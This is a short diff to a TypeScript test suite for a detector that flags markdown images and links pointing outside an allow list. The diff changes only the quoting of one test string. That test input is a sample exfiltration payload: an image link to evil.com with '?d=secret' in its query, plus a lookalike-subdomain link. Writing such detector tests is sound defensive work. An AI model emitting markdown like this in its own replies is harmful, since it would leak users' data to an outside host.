@@ -67,7 +67,7 @@ describe("findExfiltration", () => {
   const hits = (t: string) => findExfiltration(t, allow).map((f) => ({ text: t.slice(f.start, f.end), form: f.form, reason: f.reason }));
 
   it("flags markdown images and links to outside hosts, whole", () => {
-    const t = "Here ![chart](https://evil.com/c.png?d=secret \"t\") and [docs](https://acme.io.evil.com/x).";
+    const t = 'Here ![chart](https://evil.com/c.png?d=secret "t") and [docs](https://acme.io.evil.com/x).';
     expect(hits(t)).toEqual([
       { text: '![chart](https://evil.com/c.png?d=secret "t")', form: "image", reason: "host_not_allowed" },
       { text: "[docs](https://acme.io.evil.com/x)", form: "link", reason: "host_not_allowed" },
